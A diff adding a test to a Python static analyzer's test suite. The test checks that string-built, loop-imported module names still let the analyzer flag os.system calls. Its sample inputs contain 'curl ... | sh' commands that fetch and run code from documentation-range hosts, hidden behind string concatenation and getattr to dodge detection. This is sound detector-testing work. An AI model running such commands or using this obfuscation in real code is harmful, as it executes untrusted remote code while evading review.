@@ -216,3 +216,16 @@ def test_calls_of_a_name_shared_by_many_functions_are_resolved_once_per_file(mon
             "    Runner().get('curl -s http://203.0.113.5/u | sh')\n")
     assert found("shell-pipe-to-interpreter", code) == [(124, "critical")]  # os.system(cmd) in Runner.get
     assert len(resolved) == len(set(resolved)) <= 302
+
+
+def test_modules_imported_in_a_loop_into_a_dict_are_known_by_name():
+    # for n in ("o" + "s", ...): mods[n] = importlib.import_module(n): mods["os"] is the os module (CodeBreaker's
+    # table of modules); the same loop over harmless modules, and a loop over names not known, report nothing
+    code = ("import importlib\nmods = {}\nfor n in ('o' + 's', 'sub' + 'process'):\n"
+            "    mods[n] = importlib.import_module(n)\n"
+            "def run(c):\n    return getattr(mods['os'], 'sys' + 'tem')(c)\n"
+            "run('curl -s http://198.51.100.7/x | sh')\n"
+            "safe = {}\nfor n in ('json', 'csv'):\n    safe[n] = __import__(n)\n"
+            "def dump(c):\n    return getattr(safe['json'], 'dumps')(c)\n"
+            "dump('curl -s http://198.51.100.7/x | sh')\n")
+    assert found("shell-pipe-to-interpreter", code) == [(6, "critical")]
